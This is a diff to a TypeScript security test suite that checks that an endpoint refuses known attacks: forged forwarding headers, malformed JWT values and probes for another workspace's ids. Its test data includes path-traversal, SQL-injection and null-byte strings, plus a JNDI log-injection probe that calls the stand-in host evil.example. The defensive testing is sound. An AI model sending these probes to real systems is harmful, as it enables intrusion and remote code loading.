@@ -19,7 +19,7 @@ import { addToken, caller, createTestWorkspace, type TestWorkspace } from '../he
 
 /*
  * The attack catalogue: every attack on the endpoint we know of, each with its refusal, in one file.
- * The verdict is always two-fold: the request is refused the way DESIGN.md says, and the answer names
+ * The verdict is always two-fold: the request is refused the way docs/protocol.md, auth.md and limits.md say, and the answer names
  * nothing that exists elsewhere (another workspace's titles, names, e-mails, ids; a forged host).
  * Where another file tests an attack in depth, the test here says which one.
  *
@@ -353,7 +353,8 @@ describe('forged X-Forwarded-* and Forwarded headers (scopes.test.ts: the metada
   // Host and API Gateway's domain name forged too.
   let lambdaHandler: ReturnType<typeof buildHandler> | undefined;
   const viaLambda: Send = async ({ method, path, headers, body }) => {
-    const handler = (lambdaHandler ??= buildHandler({ ...server.app, loopbackHostOnly: false }));
+    lambdaHandler ??= buildHandler({ ...server.app, loopbackHostOnly: false });
+    const handler = lambdaHandler;
     const event = httpEvent({ method, path, headers: { host: 'evil.example', ...FORGED, ...headers }, ...(body ? { body } : {}) });
     const res: HttpResult = await handler(
       { ...event, requestContext: { ...event.requestContext, domainName: 'evil.example' } },
@@ -480,6 +481,7 @@ describe('JWTs (auth-jwt.test.ts has the verifier in depth)', () => {
     '../../etc/passwd',
     "' OR 1=1 --",
     'https://evil.example/jwks.json',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection probe, sent as it is
     '${jndi:ldap://evil.example/a}',
     'rsa-1\u0000',
   ];
@@ -766,7 +768,7 @@ describe('ids of workspace 2 in every tool, prompt and resource template, used b
   /** The answer with the request id and the probed ids blanked: what must not differ between an id of workspace 2 and one of nowhere. */
   const shape = (res: RawResponse, ids: readonly string[]): string => {
     let text = JSON.stringify(res.json.error ?? res.json.result);
-    ids.forEach((id, i) => (text = text.replaceAll(id, `<id${i}>`)));
+    for (const [i, id] of ids.entries()) text = text.replaceAll(id, `<id${i}>`);
     return `${res.status} ${text}`;
   };
 
